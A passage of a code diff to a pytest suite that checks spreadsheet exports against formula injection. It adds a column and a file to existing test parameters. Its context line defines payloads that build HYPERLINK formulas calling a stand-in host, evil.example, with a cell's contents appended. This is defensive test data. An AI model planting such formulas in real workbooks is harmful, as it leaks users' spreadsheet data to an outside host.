@@ -23,7 +23,7 @@ EVIL = [f"{sign}HYPERLINK(\"http://evil.example?\"&A1;\"x\")" for sign in BEGINS
 FREE_TEXT = {"kpi_catalogue": ("title_en", "title_zh", "question", "definition", "owner", "source_note"), "scorecard": ("title_en", "title_zh", "owner")}
 # What writes a file for a spreadsheet, and what only looks like it: rows for PostgreSQL go to a file that nobody but it reads.
 EXPORTERS = {"flows/reporting/workbook.py", "flows/automation/actions/register.py"}
-OF_NOBODY = {"flows/store/pg_load.py"}
+OF_NOBODY = {"flows/store/pg_load.py", "flows/dialects/moving.py"}
 
 
 @pytest.mark.parametrize("language", ["en", "zh-CN"])
@@ -40,7 +40,7 @@ def test_in_the_workbook_every_text_is_text_and_stays_one_when_its_cell_is_edite
 
 
 @pytest.mark.parametrize("evil", [one for one in EVIL if "\x00" not in one])
-@pytest.mark.parametrize("column", ["project", "kpi", "unit", "segment_type", "segment", "expected_effect"])
+@pytest.mark.parametrize("column", ["project", "kpi", "unit", "segment_type", "segment", "expected_effect", "guard_rails"])
 def test_in_a_register_that_people_keep_no_cell_begins_a_formula(tmp_path: Path, column: str, evil: str) -> None:
     given = {"project": "Fewer late parcels", "kpi": "late_rate", "direction": "lower", "registered_on": "2026-07-01", "starts_on": "2026-07-13", column: evil}
     with register.KIND.open({"folder": str(tmp_path)}, {}) as folder:
